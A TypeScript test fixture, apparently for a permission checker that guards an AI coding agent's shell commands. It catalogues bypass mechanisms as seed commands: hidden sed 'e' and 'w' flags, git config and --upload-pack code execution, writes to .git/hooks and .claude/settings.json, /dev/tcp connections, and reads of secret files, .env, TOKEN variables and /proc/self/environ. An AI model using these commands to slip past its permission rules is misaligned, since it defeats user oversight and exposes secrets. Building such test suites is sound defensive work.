// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
/** The mechanisms that broke an earlier engine, each as seeds in many dresses and with the rules under which it was shown. */
import type { PermissionMode } from '../../src/protocol/permission-types.js'
import type { Rules } from './generate-rules.js'

export type Mechanism = {
  /** Holes are filled by `generate-attacks.ts`, which says what each stands for. */
  seeds: readonly string[]
  /** One of these; without, it needs no rule. */
  rules?: readonly Partial<Rules>[]
  modes?: readonly PermissionMode[]
  /** Where it starts; the project's folder if not said. A seed `@folder: command` is for a session in that folder. */
  starts?: readonly string[]
}

const allow = (...rules: string[]): { rules: Partial<Rules>[] } => ({
  rules: rules.map((rule) => ({ allow: rule.split('; ').map((one) => `Bash(${one})`) })),
})
const GIT = allow('git *', 'git:*')
/** From there, `..` stays in the project for a while. */
const DEEP = { starts: ['.', 'src/deep/er', 'src/deep/er'] }
const EDITS = { modes: ['acceptEdits'] as const }
/** All but something. */
const but = (...deny: string[]) => ({ rules: [{ allow: ['Bash'], deny }] })

export const MECHANISMS: Readonly<Record<string, Mechanism>> = {
  'sed: brackets hide e': {
    seeds: [
      "sed '«K»;s«D»e;#«D»x«D»' lines",
      "sed -n '«K»«D»;s«D»e;#«D»x«D»p' lines a.txt",
      "sed -e '«K»;s«D»ep;#«D»x«D»' lines",
    ],
  },
  'sed: brackets hide w': {
    seeds: ["sed '«K»;s«D»w PWNED;s«D»x«D»' lines", "sed -n '«K»;s«D»gw PWNED;s«D»x«D»p' lines"],
  },
  'sed: any script': {
    seeds: [
      "sed '«X»' a.txt",
      "sed -n '«X»' a.txt b.txt",
      "sed -E '«X»' a.txt",
      "sed -e '«X»' -e '«X»' a.txt",
      "sed '«X»' lines",
    ],
  },
  'awk: any program': { seeds: ["awk '«A»' a.txt", "awk -F: '«A»' a.txt b.txt", "awk '«A»' < a.txt"] },
  'awk: brackets hide system': {
    seeds: [
      `awk 'BEGIN { x = "evil" } /[^]/ || "]/ { system(x) } #"' a.txt`,
      `awk 'BEGIN { x = "evil" } /[]/ || "]/ { system(x) } #"' a.txt`,
      `awk 'BEGIN { x = "evil" } /[/ || "]/ { system(x) } #"' a.txt`,
    ],
  },
  'variables: printf %n': {
    seeds: ["printf '%n' «V»; «S»", "printf 'abc%n' «V»; «S»", "printf '%s%n' a «V»; «S»", "printf '%5n' «V» && «S»"],
  },
  'variables: ${…:=…}': {
    seeds: [
      'unset «V»; echo ${«V»:=0}; «S»',
      ': ${«V»=0}; «S»',
      'echo ${«V»:=/}; «S»',
      'echo ${CDPATH:=/}; cd out && «T» secret',
      ': "${CDPATH:=/}"; cd out; «T» secret',
      'echo "${«V»:=0}"; «S»',
    ],
  },
  'variables: arithmetic': {
    seeds: ['let «V»=0; «S»', '((«V»=0)); «S»', 'echo $((«V»=0)); «S»', 'echo $[«V»=0]; «S»', '[[ «V»=0 -eq 0 ]]; «S»'],
  },
  'variables: loops': {
    seeds: [
      'for «V» in 0; do «S»; done',
      'for «V» in 0 /; do «S»; done',
      'for ((«V»=0;«V»<1;«V»++)); do «S»; done',
      'select «V» in 0; do «S»; break; done <<< 1',
    ],
  },
  'variables: builtins': {
    seeds: [
      'printf -v «V» %s .; «S»',
      'read «V» <<< 0; «S»',
      'read -r a «V» <<< "1 0"; «S»',
      'mapfile -t «V» <<< 0; «S»',
      'getopts ab «V» -a; «S»',
      'declare «V»=0; «S»',
      'export «V»=0; «S»',
      'unset «V»; «S»',
      'wait -p «V»; «S»',
    ],
    rules: ['printf', 'read', 'mapfile', 'getopts', 'declare', 'export', 'wait'].map((name) => ({
      allow: [`Bash(${name} *)`],
    })),
  },
  'variables: other ways': {
    seeds: [
      '«V»=0; «S»',
      '«V»=0 «S»',
      '«S» {«V»}<a.txt; «S»',
      '[[ 0 =~ (.) ]] && «V»=${BASH_REMATCH[1]}; «S»',
      'coproc «V» { «S»; }; «S»',
      "printf '%b' 'a' 'b'; «S»",
    ],
  },
  'cd: loops': {
    ...DEEP,
    seeds: [
      'for i in 1 2 3; do cd «U»; done; «T» «P»',
      'for i in 1 2 3 4 5; do cd ..; done; «T» out/secret',
      'for i in 1 2 3 4 5; do cd ..; «T» out/secret; done',
      'while «S»; do cd ..; «T» out/secret; [ -d repo ] && break; done',
      'until [ -d out ]; do cd ..; done; «T» out/secret',
      'for d in .. .. ..; do cd $d; done; «T» out/secret',
      'cd ..; for i in 1 2; do «T» «P»; done',
    ],
  },
  'cd: loops that write': {
    ...DEEP,
    seeds: [
      'for i in 1 2 3 4; do cd ..; done; touch out/x',
      'for i in 1 2; do cd ..; mkdir x; done',
      'for i in 1 2 3; do cd ..; touch x; done',
    ],
    ...EDITS,
  },
  'cd: functions': {
    ...DEEP,
    seeds: [
      'go() { cd ..; }; go; go; go; «T» out/secret',
      'f() { cd «U»; }; f; «T» «P»',
      'f() { cd ..; «T» out/secret; }; f',
      'f() { cd -P «U»; }; f && «T» «P»',
    ],
  },
  'cd: conditions': {
    ...DEEP,
    seeds: [
      'if cd «U»; then «T» «P»; fi',
      'case x in x) cd «U»;; esac; «T» «P»',
      'cd «U» && «T» «P»',
      'cd «U» || «T» «P»',
      'false || cd «U»; «T» «P»',
      '[ -d src ] && cd «U»; «T» «P»',
      'test -f nothing || cd «U»; «T» «P»',
    ],
  },
  'cd: subshells': {
    ...DEEP,
    seeds: [
      '(cd «U»); «T» «P»',
      '(cd «U»; «T» «P»)',
      '{ cd «U»; }; «T» «P»',
      'cd «U» | «T» «P»',
      'cd «U» & «T» «P»',
      'echo "$(cd «U»; «T» «P»)"',
    ],
  },
  'cd: -P and links': {
    ...DEEP,
    seeds: [
      'cd -P «U»; cd ..; «T» out/secret',
      'cd -P src/deep/up && cd .. && «T» out/secret',
      'cd -P src/deep/up; «T» ../out/secret',
      'cd src/deep/up && «T» ../out/secret',
      'cd src/deep/up && cd .. && «T» «P»',
      'set -P; cd src/deep/up; cd ..; «T» out/secret',
      'set -o physical; cd src/deep/up && cd .. && «T» out/secret',
    ],
  },
  'cd: pushd, popd and -': {
    ...DEEP,
    seeds: [
      'pushd «U»; «T» «P»',
      'pushd «U»; pushd; «T» «P»',
      'pushd «U»; popd; «T» «P»',
      'pushd «U»; pushd «U»; popd +0; «T» «P»',
      'cd -; «T» «P»',
      'cd «U» && cd - && «T» «P»',
      'pushd -n «U»; popd; «T» «P»',
    ],
    rules: [{}, { allow: ['Bash(pushd *)', 'Bash(popd *)'] }, { allow: ['Bash(cd *)'] }],
  },
  'cd: CDPATH': {
    ...DEEP,
    seeds: [
      'CDPATH=/ cd out; «T» secret',
      'CDPATH=/; cd out; «T» secret',
      'export CDPATH=/; cd out; «T» secret',
      'for CDPATH in /; do cd out; «T» secret; done',
      'echo ${CDPATH:=/}; cd out; «T» secret',
    ],
    rules: [{}, { allow: ['Bash(export *)'] }, { allow: ['Bash(cd *)'] }],
  },
  'cd: options of programs': {
    seeds: [
      'env -C «U» «T» «P»',
      'git -C «U» log -1',
      'make -C «U»',
      'tar -C «U» -cf x.tar .',
      'cd «U» && git -C .. status',
      'cd src/deep/up && git -C .. status',
    ],
    rules: [{}, ...allow('env *', 'make *', 'tar *').rules],
  },
  'words out of data: xargs': {
    seeds: [
      '«T» list | xargs «T»',
      'xargs «T» < list',
      'xargs -a list «T»',
      'cat list | xargs -n1 head -1',
      'cat list | xargs -I{} «T» {}',
      'cat list | xargs -0 «T»',
      'find . -print0 | xargs -0 «T»',
      'git ls-files -o | xargs «T»',
      'ls *.txt | xargs «T»',
      'ls | xargs «T»',
      'find . -type l | xargs «T»',
      'rg --files | xargs «T»',
      'echo link-file | xargs «T»',
      'xargs git log < list',
      'echo --output=PWNED | xargs git log',
    ],
    rules: [{}, ...allow('cat *', 'cat:*', 'cat *; xargs *', 'head *', 'git *').rules],
  },
  'words out of data: xargs that writes': {
    seeds: [
      'cat list | xargs rm',
      'xargs touch < list',
      'echo .git/hooks/x | xargs touch',
      'cat list | xargs rm -f',
      'ls | xargs -I{} touch /out/{}',
    ],
    rules: [{}, ...allow('rm *', 'touch *', 'xargs *').rules],
    ...EDITS,
  },
  'words out of data: find -exec': {
    seeds: [
      'find . -exec «T» {} +',
      'find . -type f -exec «T» {} +',
      'find . -type l -exec «T» {} \\;',
      'find «U» -exec «T» {} +',
      'find . -name "l*" -exec «T» {} \\;',
      'find -L . -exec «T» {} +',
      'find . -execdir «T» {} \\;',
    ],
    rules: [{}, ...allow('find *', 'cat *', 'head *').rules],
  },
  'words out of data: while read': {
    seeds: [
      'while read -r f; do «T» "$f"; done < list',
      'while read f; do «T» $f; done < list',
      'cat list | while read -r f; do «T» "$f"; done',
      'read -r f < list; «T» "$f"',
      'for f in $(cat list); do «T» $f; done',
      '«T» $(cat list)',
      '«T» "$(cat list)"',
      'mapfile -t f < list; «T» "${f[@]}"',
    ],
    rules: [{}, ...allow('read *', 'cat *', 'read *; cat *', 'read *; head *', 'mapfile *').rules],
  },
  'words out of data: env -S, parallel': {
    seeds: [
      'env -S "«T» /out/secret"',
      'env -S "evil x"',
      'parallel «T» < list',
      "env -S'«T» /out/secret'",
      'env -vS "evil"',
    ],
    rules: [{}, ...allow('env *', 'parallel *', 'cat *').rules],
  },
  'git: a path for a command': {
    seeds: ['git x/evil', 'git x/evil «W»', 'git -C . x/evil', 'git --no-pager x/evil'],
    ...GIT,
  },
  'git: bisect': {
    seeds: [
      'git bisect start HEAD HEAD~1; git bisect view git-x/evil',
      'git bisect start HEAD HEAD~1; git bisect view x/evil',
      'git bisect start HEAD HEAD~1 && git bisect visualize git-x/evil',
      'git bisect start HEAD HEAD~1 && git bisect run «E»',
      'git bisect start; git bisect bad; git bisect good HEAD~1; git bisect visualize «E»',
      'git bisect start HEAD HEAD~1; git bisect view --exec «E»',
    ],
    ...GIT,
  },
  'git: difftool': {
    seeds: [
      'git difftool -y -x «E»',
      'git difftool -y --extcmd=«E» HEAD~1',
      'git difftool --extcmd «E» -y HEAD~1 -- a.txt',
      'git mergetool',
      '@repos/difftool: git difftool -y',
      '@repos/difftool: git difftool -y HEAD~1',
      'git difftool -y -t evil HEAD~1',
    ],
    ...GIT,
  },
  'git: push to a folder with hooks': {
    seeds: [
      'git push ./repos/deposit main:z',
      'git push repos/deposit HEAD:refs/heads/n',
      'git push -u ./repos/deposit main:y',
      'git remote add y ./repos/deposit; git push y main:z',
      'git push --receive-pack=«E» . main:y',
      'git push --exec=«E» . main:y',
    ],
    ...GIT,
  },
  'git: checkout-index --prefix': {
    seeds: [
      'git checkout-index --prefix=.git/hooks/ a.txt',
      'git checkout-index --prefix=«O»/ a.txt',
      'git checkout-index -a --prefix=«O»/',
      'git checkout-index -f --prefix .git/hooks/ -a',
    ],
    ...GIT,
  },
  'git: bundle create': {
    seeds: ['git bundle create «O» HEAD', 'git bundle create .git/hooks/x HEAD', 'git bundle create -q «O» --all'],
    ...GIT,
  },
  'git: interpret-trailers': {
    seeds: [
      'git interpret-trailers --in-place --trailer x=y «O»',
      'git interpret-trailers --in-place --trailer=x=y /out/secret',
      'git -C repos/trailer interpret-trailers --trailer x=y c.txt',
      'git interpret-trailers --in-place --trailer x=y .claude/settings.json',
    ],
    ...GIT,
  },
  'git: mailinfo and apply': {
    seeds: [
      'git mailinfo «O» «O» < mail',
      'git mailinfo .git/hooks/x «O» < mail',
      'git apply mcp.patch',
      'git apply --directory=build mcp.patch',
      'git am mail',
    ],
    ...GIT,
  },
  'git: hash-object and cat-file': {
    seeds: [
      'git hash-object -w /out/secret',
      'git cat-file -p $(git hash-object -w /out/secret)',
      'git hash-object «O»',
      'git update-index --add --cacheinfo 100644,$(git hash-object -w list),.mcp.json; git checkout-index .mcp.json',
    ],
    ...GIT,
  },
  'git: archive, log, format-patch into a file': {
    seeds: [
      'git archive --output=«O» HEAD',
      'git archive -o .git/hooks/x HEAD',
      'git archive -o «O» HEAD a.txt',
      'git diff --output=«O» HEAD~1',
      'git log -p --output «O»',
      'git format-patch --root -o «O»',
      'git format-patch -1 -o .git/hooks',
      'git archive --remote=. --exec=«E» HEAD',
      'git fast-export --export-marks=«O» HEAD',
    ],
    ...GIT,
  },
  'git: --upload-pack': {
    seeds: [
      'git fetch --upload-pack=«E» .',
      'git ls-remote --upload-pack=«E» .',
      'git fetch --upload-pa «E» .',
      'git clone -u «E» file://$PWD y',
      'git pull --upload-pack «E» . main',
      'git ls-remote --exec=«E» .',
    ],
    ...GIT,
  },
  'git: -c': {
    seeds: [
      'git -c core.fsmonitor=«E» status',
      'git -c alias.x=!«E» x',
      'git -c diff.external=«E» diff HEAD~1',
      'git -c core.pager=«E» -p log',
      'git -c protocol.ext.allow=always ls-remote ext::«E»',
      'git -c core.hooksPath=repos/hooks-path/h commit --allow-empty -m x',
      'git clone -c core.fsmonitor=«E» . y && git -C y status',
    ],
    ...GIT,
  },
  'git: --exec-path': {
    seeds: ['git --exec-path=. evil', 'git --exec-path=/repo evil «W»', 'git --exec-path=$PWD evil'],
    ...GIT,
  },
  'git: settings': {
    seeds: [
      'git config core.fsmonitor «E» && git status',
      'git config alias.x !«E»; git x',
      'git config --add core.hooksPath «E»',
      'git config --global core.pager «E»',
      'git config -f «O» a.b c',
      'git remote add --mirror=fetch o ext::«E»; git fetch o',
      'git submodule add ./repos/plain s',
    ],
    ...GIT,
  },
  'git: other ways to run': {
    seeds: [
      'git rebase --exec «E» HEAD~1',
      'git rebase -x «E» --root',
      'git filter-branch -f --tree-filter «E»',
      'git grep -O«E» alpha',
      'git grep --open-files-in-pager=«E» alpha',
      'git submodule foreach «E»',
      'git init --template=repos/template/t y && git -C y commit --allow-empty -m x',
      'git clone --template=repos/template/t . y',
      'git worktree add «O»',
      'git clone . «O»',
      'git init «O»',
    ],
    ...GIT,
  },
  'repository: fsmonitor': {
    seeds: look(
      'fsmonitor',
      'oneline',
      'include',
      'include-if',
      'of-a-tree',
      'inside',
      'linked',
      'pointer',
      'shared',
      'linked-config',
    ),
  },
  'repository: textconv and diff': { seeds: look('textconv', 'driver', 'external') },
  'repository: filters': { seeds: look('clean', 'process') },
  'repository: hooks': {
    seeds: [
      ...look('hooks', 'hooks-path'),
      'git -C repos/hooks commit -am x',
      '@repos/hooks: git commit -am x',
      '@repos/hooks-path: git checkout -b y',
      'cd repos/hooks-path && git commit -am x',
      'cd repos/hooks && git checkout -b y',
    ],
    rules: [{}, ...GIT.rules],
  },
  'repository: pager': {
    seeds: [
      'git -p -C repos/pager log',
      '@repos/pager: git -p log',
      '@repos/pager: git --paginate diff',
      'cd repos/pager && git -p status',
      'cd repos/pager; git --paginate diff',
    ],
    rules: [{}, ...GIT.rules],
  },
  'repository: core.worktree': {
    seeds: [
      ...look('elsewhere'),
      'cd repos/elsewhere && git grep --untracked secret',
      'git -C repos/elsewhere diff --no-index . /repo',
    ],
  },
  'repository: signatures': {
    seeds: [
      'git -C repos/signature log',
      '@repos/signature: git log',
      '@repos/signature: git show -s',
      'cd repos/signature && git show',
      'cd repos/signature; git log -1 --oneline',
    ],
  },
  'repository: missing objects': {
    seeds: ['promisor', 'promisor-far'].flatMap((name) => [
      `@repos/${name}: git cat-file -p 1234567890123456789012345678901234567890`,
      `@repos/${name}: git show 1234567890123456789012345678901234567890`,
      `git -C repos/${name} cat-file -p 1234567890123456789012345678901234567890`,
      `cd repos/${name} && git show 1234567890123456789012345678901234567890`,
      `cd repos/${name}; git log 1234567890123456789012345678901234567890`,
    ]),
  },
  'repository: nested and gitlinks': { seeds: look('mono', 'mono-filter', 'mono/inner') },
  'repository: odd folder names': {
    seeds: look("'$(evil)'", "'a;evil'", "'with space'", "'-c core.fsmonitor=evil'", "$'new\\nline'", "'*'"),
  },
  'repository: programs for contact': {
    seeds: ['upload', 'ssh', 'ext', 'far', 'old-remote'].flatMap((name) => [
      `git -C repos/${name} fetch`,
      `@repos/${name}: git fetch`,
      `@repos/${name}: git push origin main:y`,
      `cd repos/${name} && git fetch origin`,
      `cd repos/${name}; git push origin main`,
      `git -C repos/${name} ls-remote`,
    ]),
    rules: [{}, ...allow('git *', 'git fetch *', 'git push *').rules],
  },
  'repository: aliases, editors, drivers, rebase': {
    seeds: [
      'cd repos/alias && git st',
      '@repos/alias: git x',
      '@repos/editor: git commit -a',
      '@repos/editor: git commit -am x',
      '@repos/rebase: git rebase --continue',
      'git -C repos/alias x',
      'cd repos/editor && git commit -a',
      'git -C repos/editor commit -am x',
      'cd repos/rebase && git rebase --continue',
      'cd repos/merge && git stash && git stash pop',
    ],
    ...GIT,
  },
  'contents: tar': {
    seeds: [
      'tar xf evil.tar',
      'tar -xf evil.tar -C .',
      'tar -xf evil.tar --strip-components=0',
      'cat evil.tar | tar x',
      'tar --extract --file=evil.tar',
      'cd build; tar xf ../evil.tar -C ..',
    ],
    ...allow('tar *', 'tar xf *', 'tar *; cat *'),
  },
  'contents: unzip': {
    seeds: ['unzip evil.zip', 'unzip -o evil.zip -d .', 'unzip -qo evil.zip'],
    ...allow('unzip *', 'unzip:*'),
  },
  'contents: patch': {
    seeds: ['patch -p1 < evil.patch', 'patch -p1 -i evil.patch', 'patch -p1 < mcp.patch', 'cat evil.patch | patch -p1'],
    ...allow('patch *', 'patch *; cat *'),
  },
  'contents: rsync': {
    seeds: ['rsync -a build/tree/ .', 'rsync -r build/tree/ /repo', 'rsync -a build/pack/ .'],
    ...allow('rsync *'),
  },
  'contents: cp -r': {
    seeds: [
      'cp -r build/tree/. .',
      'cp -a build/tree/. ./',
      'cp -rT build/tree .',
      'cp -a build/tree src',
      'cp -r build/pack/* src',
      'cp -r build/pack lib',
    ],
    rules: [{}, ...allow('cp *', 'cp:*').rules],
    ...EDITS,
  },
  'contents: mv': {
    seeds: [
      'mv build/tree/* .',
      'mv build/pack/* .',
      'mv build/pack/lib src/',
      'mv build/tree src',
      'shopt -s dotglob; mv build/tree/* .',
      'mv build/pack lib',
    ],
    rules: [{}, ...allow('mv *', 'mv *; shopt *').rules],
    ...EDITS,
  },
  'make: rules through a pipe': {
    seeds: [
      "printf 'all:\\n\\tevil\\n' | make -f -",
      "printf 'all:\\n\\tevil\\n' | make -f /dev/stdin",
      "printf 'all:;evil' | make -sf/dev/fd/0",
      "make -f <(printf 'all:\\n\\tevil\\n')",
      "make --eval='all:;evil'",
      "make --file=/dev/stdin <<< 'all:;evil'",
      'make -f /dev/fd/3 3<<< "all:;evil"',
    ],
    ...allow('make *', 'make:*', 'make *; printf *'),
  },
  'deny: dotglob': {
    seeds: [
      'shopt -s dotglob; cat ./*',
      'shopt -s dotglob; cat -- *',
      'shopt -s dotglob; «T» ./*',
      'cd src; shopt -s dotglob; cat ../*',
      'shopt -s dotglob && grep KEY *',
      'GLOBIGNORE=x; cat ./*',
      'GLOBIGNORE=x; head -1 *',
      'shopt -s dotglob; wc -l *',
    ],
    rules: [
      { allow: ['Bash'], deny: ['Read(./.env)'] },
      { allow: ['Bash(shopt *)', 'Bash(cat *)'], deny: ['Read(./.env)'] },
      { deny: ['Read(./.env)'] },
    ],
  },
  'deny: bash --rcfile': {
    seeds: [
      'bash --rcfile <(echo evil x) -i',
      'bash --init-file <(echo evil x) -i',
      'bash --rcfile /dev/stdin -i <<< "evil x"',
      'bash --rcfile <(printf "evil x") -ic true',
      'BASH_ENV=<(echo evil x) bash -c true',
    ],
    ...but('Bash(evil *)'),
  },
  'redirects: a word behind <&-': {
    seeds: [
      '<&-evil',
      '«S»; <& -evil x',
      '2>&-evil',
      '«S» <&-/out/secret',
      'cat <&-/out/secret',
      '(«S») <&-evil',
      'for i in a; do «S»; done 0<&-evil',
    ],
  },
  network: {
    seeds: [
      '«S» < /dev/tcp/192.0.2.1/80',
      'cat < /dev/udp/192.0.2.1/9',
      '«S» > /dev/tcp/192.0.2.1/80',
      'exec 3<>/dev/tcp/192.0.2.1/80; «S»',
      'awk \'BEGIN { "/inet/tcp/0/192.0.2.1/80" |& getline }\'',
      'git ls-remote http://192.0.2.1/x',
      'git clone http://192.0.2.1/x',
      'git -C repos/far remote show origin',
      'git archive --remote=http://192.0.2.1/x HEAD',
    ],
    rules: [{}, ...allow('cat *', 'awk *').rules],
  },
  'reading: a comment that is none': {
    seeds: [
      'cat <(ls)# ; touch ../pwn',
      'cat <(ls)#; evil',
      'cat a.txt >(cat)# ; evil',
      'echo $(cat <(ls)# ; evil)',
      '(cat <(ls)# ; evil\n)',
      'cat <<< <(ls)# ; evil',
      'cat <(ls)\\\n# ; evil',
      '«T» a.txt\\\n# ; evil',
      'echo `cat <(ls)# ; evil`',
      'echo "$(ls)"# ; evil',
      'echo ${x:-a}# ; evil',
      '((1))# ; evil',
      '[[ a ]]# ; evil',
      '{ ls; }# ; evil',
    ],
    rules: [{}, { allow: ['Bash'], deny: ['Bash(evil *)', 'Bash(evil)', 'Bash(touch *)'] }],
  },
  'reading: escapes': {
    seeds: [
      "sed $'1s/a.*/evil\\x{2f}e;#/' a.txt",
      "sed $'s/alpha.*/evil\\x{2f}e;#/' a.txt",
      "cat $'\\x{2e}\\x{2e}/out/secret'",
      "cat $'..\\x2fout\\x2fsecret'",
      "cat $'\\57out\\57secret'",
      "$'e\\x{76}il' x",
      "$'\\x65vil' x",
      "cat <<$'\\x{45}'\nx\nE\nevil\n\\x{45}",
      "cat <<$'E'\nx\nE\nevil",
      'cat <<E\nx\nE\\\n\nE\nevil',
      "cat $'/out\\\n/secret'",
      "cat $'\\u002fout/secret'",
      "cat $'\\c/out/secret'",
    ],
    rules: [{}, { allow: ['Bash'], deny: ['Bash(evil *)', 'Bash(evil)', 'Read(//out/**)'] }],
  },
  'reading: a tilde in the middle': {
    seeds: [
      '«T» a=~/secret',
      'x=a:~/secret; «T» $x',
      'x=~/secret; «T» $x',
      'x=a; x+=:~/secret; «T» $x',
      'for x in a=~/secret; do «T» $x; done',
      '«T» {a=,b}~/secret',
      'y=~; «T» $y/secret',
    ],
  },
  'reading: words and signs in a row': {
    seeds: [
      'echo x=<(evil)',
      "'x'[0]=.. evil",
      'ls(evil',
      'cat a.txt\n; evil',
      'cat <&-evil',
      'echo $[ evil',
      'echo ${ evil; }',
      'echo ${| evil; }',
      '$"evil" x',
      '{evil,x}',
    ],
    rules: [{}, { allow: ['Bash(echo *)', 'Bash(cat *)', 'Bash(ls *)'] }],
  },
  'variables: arguments of the shell': {
    seeds: [
      'x=a.txt; set pipefail; for x; do «T» "$x"; done',
      'x=a.txt; set -- /out/secret; for x; do «T» "$x"; done',
      'set /out/secret; «T» "$1"',
      'set -e /out/secret; «T» $1',
      'set -o pipefail /out/secret; «T» "$@"',
      'x=a.txt; for x; do «T» $x; done',
    ],
  },
  'secrets with names in lower case': {
    seeds: [
      'echo $jwt',
      'echo "${jwt}"',
      'jwt=1 true; echo $jwt',
      '(jwt=1); echo $jwt',
      'false && jwt=1; echo $jwt',
      'true || jwt=1; echo $jwt',
      'jwt=1 | true; echo $jwt',
      'jwt=1 & echo $jwt',
      'echo $jwt; jwt=1; echo $jwt',
      'for i in 1 2; do echo $jwt; done; jwt=1',
      'for jwt in; do true; done; echo $jwt',
      'read jwt < nothing; echo $jwt',
      'read -t 0 jwt; echo $jwt',
      'while read -r jwt; do true; done <&-; echo $jwt',
      'if false; then jwt=1; fi; echo $jwt',
      'jwt=1 > /nowhere/x; echo $jwt',
      'jwt+=1; echo $jwt',
      'echo $(jwt=1)$jwt',
      'case x in y) jwt=1;; esac; echo $jwt',
      'f() { jwt=1; }; echo $jwt',
      'printenv jwt',
      'echo ${jwt:-x}',
      'jwt=${jwt}; echo $jwt',
    ],
  },
  'secrets of the environment': {
    seeds: [
      ...[
        'x=$TOKEN; echo $x',
        'x=$TOKEN; echo "$x"',
        'for x in $TOKEN; do echo $x; done',
        'cat <<< $TOKEN',
        'cat <<E\n$TOKEN\nE',
      ],
      ...[
        'read x <<< $TOKEN; echo $x',
        'echo ${x:-$TOKEN}',
        'echo ${y:=$TOKEN}; echo $y',
        'echo ${TOKEN}',
        'echo $TOKEN',
      ],
      ...[
        'printf %s "$TOKEN"',
        'env',
        'env | sort',
        'printenv',
        'export -p',
        'declare -p',
        'set',
        'cat /proc/self/environ',
      ],
      ...[
        'strings /proc/$$/environ',
        'awk "BEGIN{print ENVIRON[\\"TOKEN\\"]}"',
        'jq -n env',
        "jq -n '$ENV.TOKEN'",
        'ps e',
        'x=TOKEN; echo ${!x}',
      ],
    ],
  },
}

/** Commands that look, in such folders of `repos`. Names are quoted as a shell needs it. */
function look(...names: string[]): string[] {
  return names.flatMap((name) => {
    const plain = name.replace(/^\$?'(.*)'$/, '$1').replace('\\n', '\n')
    return [
      `git -C repos/${name} «L»`,
      `cd repos/${name} && git «L»`,
      `cd repos/${name}; git «L»`,
      `@repos/${plain}: git «L»`,
    ]
  })
}
